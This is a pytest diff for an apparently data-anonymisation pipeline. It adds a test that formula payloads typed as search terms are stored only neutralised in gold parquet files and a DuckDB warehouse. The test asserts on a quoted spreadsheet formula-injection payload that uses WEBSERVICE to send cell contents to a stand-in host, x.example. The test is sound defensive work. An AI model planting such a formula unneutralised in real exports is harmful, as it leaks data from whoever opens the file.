@@ -14,7 +14,7 @@ import pytest
 
 from tests.conftest import run_pipeline_cli
 from tests.hostile.corpus import OUTSIDE_MARKER, build_corpus
-from tests.hostile.scan import find_text, formula_cells
+from tests.hostile.scan import find_text, formula_cells, formula_values
 
 ENV = {
     "PSEUDONYMIZATION_KEY": "hostile-corpus-pseudonymization-key-0123",
@@ -93,6 +93,21 @@ def test_no_identifier_and_no_formula_reaches_any_export_release_or_gold_file(
     assert not formula_cells(out / "exports")
     terms = (out / "exports" / "rx-ad-network" / "2026-10").rglob("top_search_terms.csv")
     assert any("other" in path.read_text() for path in terms), "hostile terms became other"
+
+
+def test_no_formula_leading_value_is_in_gold_or_the_warehouse(hostile_run: dict) -> None:
+    """Formula payloads typed as search terms by hundreds of accounts reach gold (which keeps
+    every term) only neutralised, in every gold file and every warehouse table."""
+    out = hostile_run["out"]
+    terms = [
+        t
+        for path in (out / "gold" / "search_terms_monthly").rglob("*.parquet")
+        for t in pq.read_table(path, columns=["search_term"]).column(0).to_pylist()
+    ]
+    assert '\'=webservice("http://x.example/"&a1)' in terms, "kept, neutralised"
+    assert "'@if(1,2)" in terms
+    assert formula_values(out / "gold") == []
+    assert formula_values(out / "warehouse.duckdb") == []
 
 
 def test_hostile_deletion_requests_are_reported_never_guessed_nor_followed(
